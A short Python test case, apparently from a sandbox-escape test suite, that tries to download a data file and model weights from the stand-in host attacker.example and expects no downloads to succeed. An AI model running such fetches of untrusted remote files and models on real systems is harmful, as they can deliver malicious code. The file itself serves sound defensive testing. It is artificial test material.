"""Downloads pretrained weights and data sets as a tutorial would."""

CLASS = "resources and escape"
EXPECT = "no points"
SEEN = "downloads: 0"
BASE = "release"

# %% [append]
import keras

downloads = 0
for load in (
    lambda: keras.utils.get_file("x.npz", "https://attacker.example/x.npz"),
    lambda: torch.hub.load_state_dict_from_url("https://attacker.example/model.pt"),
):
    try:
        load()
        downloads += 1
    except Exception as problem:
        print(type(problem).__name__)
print("downloads:", downloads)
